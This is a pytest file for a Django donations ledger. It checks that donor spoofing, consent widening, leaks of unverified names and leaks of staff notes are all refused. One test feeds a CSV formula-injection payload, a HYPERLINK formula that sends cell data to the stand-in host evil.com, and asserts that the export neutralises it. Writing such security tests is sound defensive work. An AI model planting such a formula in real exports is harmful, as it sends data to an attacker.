"""Donor identity and what the public sees, probed as an attacker would: each test reproduces one attack from
issue 10 and shows it refused."""

from __future__ import annotations

import csv
import io
import json

import pytest

from swingfund.funding import services
from swingfund.funding.models import ComplianceTask, Donation, Donor, LedgerTransaction
from swingfund.funding.services import DonorDetails, GiftDetails

from .conftest import at

pytestmark = pytest.mark.django_db

ELECTOR = DonorDetails(name="Ann Elector", email="ann@example.org", address="1 High Street, Leeds",
                       postcode="LS1 1AA")


def gift(campaign, donor: DonorDetails | None, pence: int, *, day: str = "06-01", method: str = "bank_transfer",
         reference: str = "", external_id: str | None = None) -> Donation:
    return services.donation_record_with_donor(GiftDetails(
        campaign=campaign, donor=donor, amount_pence=pence, method=method, received_at=at(day), reference=reference,
        external_id=external_id))


@pytest.fixture
def checked_elector(pooled):
    """A UK elector who gave once and whom the treasurer has checked."""
    first = gift(pooled, ELECTOR, 10_000, day="05-10")
    return services.donor_declare(donor=first.donor, category="uk_elector", evidence="register LS-0001",
                                  checked_by="treasurer", checked_at=at("05-11"))


def test_a_gift_using_a_checked_donors_email_does_not_become_that_donor(pooled, checked_elector):
    # The attack: £5,000 by card from "Foreign National, Paris" with the checked elector's email.
    foreign = DonorDetails(name="Foreign National", email="ANN@example.org", address="1 Rue de Rivoli, Paris",
                           postcode="75001")
    attack = gift(pooled, foreign, 500_000, method="card", external_id="pi_attack")
    assert attack.donor_id != checked_elector.pk
    assert attack.status == Donation.Status.HELD, "an unchecked donor's £5,000 must be held, not accepted"
    assert attack.donor.checked_at is None and attack.donor.category == "unknown"
    task = ComplianceTask.objects.get(kind=ComplianceTask.Kind.DUPLICATE, donor=attack.donor)
    assert f"#{checked_elector.pk} Ann Elector" in task.description
    # The elector themself, with their address written differently, is still one donor.
    again = gift(pooled, DonorDetails(name="Mrs ann  ELECTOR", email="", address="1 high st,  leeds",
                                      postcode="ls11aa"), 600_000, day="06-02")
    assert again.donor_id == checked_elector.pk and again.status == Donation.Status.ACCEPTED


def test_another_persons_gift_never_widens_a_donors_consent_to_publish(client, pooled, checked_elector):
    big = gift(pooled, ELECTOR, 800_000, day="06-03")  # over the £7,500 public threshold, no consent given
    # The attack: a £1 gift with the elector's own name, email and address, ticking "publish my name".
    gift(pooled, DonorDetails(**{**ELECTOR.__dict__, "consent_publish": True}), 100, day="06-04")
    # And the literal attack: another person's £1 gift with only the elector's email, ticking consent.
    intruder = gift(pooled, DonorDetails(name="Someone Else", email="ann@example.org", consent_publish=True), 100,
                    day="06-04")
    assert intruder.donor_id != checked_elector.pk
    big.refresh_from_db()
    assert big.consent_publish is False
    assert Donor.objects.get(pk=checked_elector.pk).consent_publish is False
    public = client.get("/funding/ledger.json").json()
    assert "Ann Elector" not in json.dumps(public)
    assert "Ann Elector" not in client.get(f"/funding/campaigns/{pooled.slug}/").content.decode()


def test_a_consenting_checked_donors_name_is_published_only_with_that_gift(client, pooled, checked_elector):
    with_consent = gift(pooled, DonorDetails(**{**ELECTOR.__dict__, "consent_publish": True}), 800_000, day="06-05")
    without = gift(pooled, ELECTOR, 900_000, day="06-06")
    rows = {r["id"]: r["giver"] for r in client.get("/funding/ledger.json").json()["transactions"]}
    assert rows[with_consent.transaction_id] == "Ann Elector"
    assert rows[without.transaction_id] == "A donor"


def test_an_unverified_donors_name_is_never_published_even_with_consent(client, pooled):
    # The attack: a held £8,000 gift from an unchecked donor who ticked consent: the name reached page, CSV, JSON.
    held = gift(pooled, DonorDetails(name="Unverified Person", email="u@example.org", address="2 Low Rd",
                                     postcode="M1 1AB", consent_publish=True), 800_000)
    assert held.status == Donation.Status.HELD and held.consent_publish is True
    for url in ("/funding/ledger/", "/funding/ledger.csv", "/funding/ledger.json",
                f"/funding/campaigns/{pooled.slug}/"):
        body = client.get(url).content.decode()
        assert "Unverified Person" not in body, url


def test_ledger_csv_neutralises_a_formula_in_a_published_name(client, pooled):
    evil = DonorDetails(name='=HYPERLINK("http://evil.example/?"&A1,"click")', email="e@example.org",
                        address="3 Side St", postcode="LS2 2BB", consent_publish=True)
    first = gift(pooled, evil, 100, day="05-20")
    services.donor_declare(donor=first.donor, category="uk_elector", evidence="register", checked_by="treasurer")
    published = gift(pooled, evil, 800_000, day="06-07")
    rows = list(csv.DictReader(io.StringIO(client.get("/funding/ledger.csv").content.decode())))
    givers = {r["giver"] for r in rows if r["id"] == str(published.transaction_id)}
    assert givers == {"'" + evil.name}, "a cell starting with = must be prefixed with a quote (OWASP)"
    assert all(not r["giver"].startswith(("=", "+", "-", "@")) for r in rows)


def test_staff_free_text_never_reaches_the_public_ledger(client, pooled):
    # The attack: a staff member's return reference names a private person and their address.
    private = "Mrs Jane Doe, 14 Acacia Ave"
    held = gift(pooled, DonorDetails(name="Someone Unchecked", address="9 Far Rd", postcode="B1 1AA"), 800_000,
                reference=f"CHQ {private}")
    services.donation_return(donation=held, reference=private, by="treasurer")
    for url in ("/funding/ledger/", "/funding/ledger.csv", "/funding/ledger.json"):
        assert "Jane Doe" not in client.get(url).content.decode(), url
    # Nor is it written into the unerasable ledger itself; the erasable refund record keeps it.
    for tx in LedgerTransaction.objects.prefetch_related("entries"):
        assert "Jane Doe" not in tx.description and all("Jane Doe" not in e.memo for e in tx.entries.all())
    assert "Jane Doe" in held.refunds.get().reason


def test_a_refused_gift_leaves_no_donor_behind(earmarked):
    before = Donor.objects.count()
    with pytest.raises(ValueError, match="earmarked"):
        gift(earmarked, DonorDetails(name="Left Behind", email="lb@example.org"), 5_000)  # names no candidacy
    assert Donor.objects.count() == before
